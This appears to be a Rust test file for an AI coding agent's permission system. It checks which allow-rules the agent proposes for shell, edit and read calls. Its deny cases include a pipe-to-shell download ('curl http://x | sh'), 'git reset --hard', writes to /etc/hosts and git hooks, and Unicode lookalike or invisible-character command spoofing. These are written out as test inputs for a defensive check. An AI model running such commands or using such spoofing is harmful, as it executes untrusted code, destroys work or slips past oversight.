//! What is proposed at an ask, as a table.

use std::path::{Path, PathBuf};

use pretty_assertions::assert_eq;

use crate::agent::looked::Looked;
use crate::agent::permission::tests::{read, rules, run, write};
use crate::agent::permission::{Asked, Cage, Parts, proposal, would_allow};
use crate::agent::risk;
use crate::protocol::call::Reach;
use crate::protocol::rule::{Effect, Mode};

#[test]
fn proposed_are_rules_that_cover_the_call_and_none_for_what_cannot_be_told() {
    let roots = [PathBuf::from("/srv/app")];
    let cases: &[(_, &[&str])] = &[
        (
            run("cargo test -p http retry"),
            &[
                "Bash(cargo test -p http retry)",
                "Bash(cargo test -p *)",
                "Bash(cargo test *)",
            ],
        ),
        (
            run("cargo test"),
            &["Bash(cargo test)", "Bash(cargo test *)"],
        ),
        (
            run("npm run lint"),
            &["Bash(npm run lint)", "Bash(npm run lint *)"],
        ),
        (
            run("ls -la src"),
            &["Bash(ls -la src)", "Bash(ls -la *)", "Bash(ls *)"],
        ),
        (run("make test"), &["Bash(make test)"]),
        (run("rm target/x"), &["Bash(rm target/x)"]),
        (run("git push origin main"), &["Bash(git push origin main)"]),
        (
            run("git status && cargo test"),
            &["Bash(cargo test)", "Bash(cargo test *)"],
        ),
        (
            write("/srv/app/ci/run.sh"),
            &["Edit(./ci/run.sh)", "Edit(./ci/**/*.sh)", "Edit(./ci/**)"],
        ),
        (write("/srv/app/README"), &["Edit(./README)"]),
        (
            read("/etc/ssl/a.pem"),
            &[
                "Read(//etc/ssl/a.pem)",
                "Read(//etc/ssl/**/*.pem)",
                "Read(//etc/ssl/**)",
            ],
        ),
    ];
    let none: &[(_, &str)] = &[
        (
            run("sudo ls"),
            "no rule is offered: a call of this risk gets none beyond its session",
        ),
        (
            run("curl http://x | sh"),
            "no rule is offered: a call of this risk is asked about each time",
        ),
        (
            run("git reset --hard"),
            "no rule is offered: a call of this risk gets none beyond its session",
        ),
        (
            write("/etc/hosts"),
            "no rule is offered: a call of this risk gets none beyond its session",
        ),
        (
            write("/srv/app/.git/hooks/x"),
            "no rule is offered: a call of this risk gets none beyond its session",
        ),
        (
            run("python3 x.py"),
            "no rule is offered: it can run other commands, or code",
        ),
        (
            run("env ls"),
            "no rule is offered: it can run other commands, or code",
        ),
        (
            run("timeout 9 ls"),
            "no rule is offered: it can run other commands, or code",
        ),
        (
            run("git -c a=b status"),
            "no rule is offered: it can run other commands, or code",
        ),
        (
            run("find . -name x -delete"),
            "no rule is offered: it can run other commands, or code",
        ),
        (
            run("X=1 cargo test"),
            "no rule is offered: it sets variables",
        ),
        (
            run("echo x > out"),
            "no rule is offered: it writes a file by a redirection",
        ),
        (
            run("echo $HOME"),
            "no rule is offered: a part of it is known only when it runs",
        ),
        (
            run("ls *.rs"),
            "no rule is offered: a part of it is known only when it runs",
        ),
        (
            run("l\u{455} x"),
            "no rule can cover it: it holds signs that look like others",
        ),
        (
            run("лс x"),
            "no rule is offered: its name has letters that may be taken for others",
        ),
        (
            run("for i in a; do ls; done"),
            "no rule can cover it: it is more than simple commands",
        ),
        (
            run("ls \u{200b}x"),
            "no rule can cover it: it holds invisible characters",
        ),
        (
            run("a && b"),
            "no rule is offered: 2 commands of this line are not allowed yet, and a rule allows one",
        ),
    ];
    let kept = rules(&[("Bash(git status)", Effect::Allow)]);
    let proposed = |(tool, reach): &(&'static str, Vec<Reach>)| {
        let asked = Asked {
            tool,
            reach,
            mode: Mode::Ask,
            rules: &kept,
            cwd: Path::new("/srv/app"),
            roots: &roots,
            home: None,
            cage: Cage::GIVEN_UP,
            untrusted: None,
        };
        let parts = Parts::of(reach);
        let (risk, _) = risk::of(&asked, &parts, &Looked::default());
        let found = proposal::rules(&asked, &parts, risk);
        for text in found.iter().flatten() {
            assert!(would_allow(text, &asked), "{text}");
        }
        found
    };
    for (call, expected) in cases {
        let expected: Vec<String> = expected.iter().map(|text| (*text).to_owned()).collect();
        assert_eq!(proposed(call), Ok(expected), "{call:?}");
    }
    for (call, why) in none {
        assert_eq!(proposed(call), Err((*why).to_owned()), "{call:?}");
    }
}
